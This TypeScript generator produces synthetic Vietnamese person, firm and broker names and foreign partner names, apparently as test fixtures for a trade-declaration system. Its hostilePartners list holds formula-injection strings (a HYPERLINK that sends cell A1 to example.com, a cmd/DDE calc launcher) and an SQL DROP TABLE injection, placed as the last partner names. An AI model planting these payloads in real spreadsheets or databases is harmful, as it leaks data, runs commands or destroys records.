/** Names as they are written in Vietnam, foreign partners' names, and texts meant to harm. */
import type { Rng } from '../../../engine/index.ts';
import { pick } from '../draws.ts';

const families = [
  'Nguyễn',
  'Trần',
  'Lê',
  'Phạm',
  'Hoàng',
  'Huỳnh',
  'Phan',
  'Vũ',
  'Võ',
  'Đặng',
  'Bùi',
  'Đỗ',
  'Hồ',
  'Ngô',
  'Dương',
  'Lý',
  'Đoàn',
  'Đinh',
  'Trịnh',
  'Mai',
];
const middles = [
  'Văn',
  'Thị',
  'Đức',
  'Minh',
  'Hữu',
  'Ngọc',
  'Thanh',
  'Quang',
  'Công',
  'Xuân',
  'Thị Thanh',
  'Đình',
  'Thị Kim',
  'Anh',
  'Bảo',
  'Gia',
];
const given = [
  'Anh',
  'Bình',
  'Châu',
  'Dũng',
  'Đạt',
  'Giang',
  'Hà',
  'Hải',
  'Hạnh',
  'Hiếu',
  'Hòa',
  'Hùng',
  'Hương',
  'Khánh',
  'Lan',
  'Linh',
  'Long',
  'Mai',
  'Nam',
  'Nga',
  'Phúc',
  'Phượng',
  'Quân',
  'Quỳnh',
  'Sơn',
  'Tâm',
  'Thảo',
  'Thắng',
  'Trang',
  'Tuấn',
  'Tú',
  'Vinh',
  'Vy',
  'Yến',
  'Đông',
  'Ước',
];
const firmWords = [
  'Đại Phát',
  'Hưng Thịnh',
  'Minh Khang',
  'An Bình',
  'Tân Á',
  'Phú Quý',
  'Đông Dương',
  'Thái Bình Dương',
  'Việt Tiến',
  'Sao Mai',
  'Trường Sơn',
  'Hải Âu',
  'Bình Minh',
  'Kim Long',
  'Thành Đạt',
  'Hoàng Gia',
  'Đức Tín',
  'Nam Việt',
  'Ánh Dương',
  'Vạn Xuân',
  'Ngân Hà',
  'Đồng Tâm',
  'Quốc Thịnh',
  'Cửu Long',
];
const trades = [
  'Xuất nhập khẩu',
  'Sản xuất',
  'Công nghiệp',
  'Dịch vụ và Thương mại',
  'Đầu tư',
  'Chế biến',
  'Thiết bị',
  'Vật tư',
];
const longTail =
  'một thành viên Sản xuất, Thương mại, Dịch vụ, Xuất nhập khẩu và Đầu tư phát triển công nghệ';
const partnerStems = [
  'Shenzhen Huaxin',
  'Guangzhou Yuelong',
  'Ningbo Haitian',
  'Busan Hanil',
  'Seoul Daesung',
  'Osaka Kyowa',
  'Nagoya Toyo',
  'Bangkok Siam',
  'Taipei Formosa',
  'Kaohsiung Grand',
  'Penang Mega',
  'Jakarta Nusantara',
  'Hamburg Nord',
  'Chicago Lakeside',
  'Mumbai Bharat',
  'Sydney Southern',
];
const partnerEnds = [
  'Co., Ltd',
  'Trading Co., Ltd',
  'Industrial Corp.',
  'International Ltd',
  'GmbH',
  'Inc.',
  'Pte Ltd',
  'Holdings',
];
const hostilePartners = [
  '=HYPERLINK("http://example.com/?x="&A1,"hóa đơn")',
  '=1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  'Robert"); DROP TABLE declarations;--',
  'Công ty "Đông Á", chi nhánh 2',
];

export const personName = (rng: Rng): string =>
  `${pick(rng, families)} ${pick(rng, middles)} ${pick(rng, given)}`;

export function firmName(rng: Rng): string {
  const name = pick(rng, firmWords);
  const draw = rng.uniform();
  if (draw < 0.5) return `Công ty TNHH ${pick(rng, trades)} ${name}`;
  if (draw < 0.75) return `Công ty Cổ phần ${pick(rng, trades)} ${name}`;
  if (draw < 0.85) return `Công ty TNHH ${longTail} ${name} ${pick(rng, firmWords)}`;
  if (draw < 0.95) return `Doanh nghiệp tư nhân ${name} ${pick(rng, given)}`;
  return `Công ty TNHH ${pick(rng, ['Samwon', 'Nakata', 'Hanmi', 'Yuasa', 'Delton'])} Việt Nam`;
}

export const brokerName = (rng: Rng): string =>
  `Công ty TNHH ${pick(rng, ['Giao nhận', 'Đại lý hải quan', 'Tiếp vận', 'Logistics', 'Vận tải và Giao nhận'])} ${pick(rng, firmWords)}`;

/** `count` names; the last few, of small traders' partners, are texts meant to harm whoever opens them in a spreadsheet. */
export function partnerNames(rng: Rng, count: number): string[] {
  return Array.from(
    { length: count },
    (_, i) =>
      hostilePartners[count - 1 - i] ??
      `${pick(rng, partnerStems)} ${pick(rng, partnerEnds)} (${String(i).padStart(4, '0')})`,
  );
}
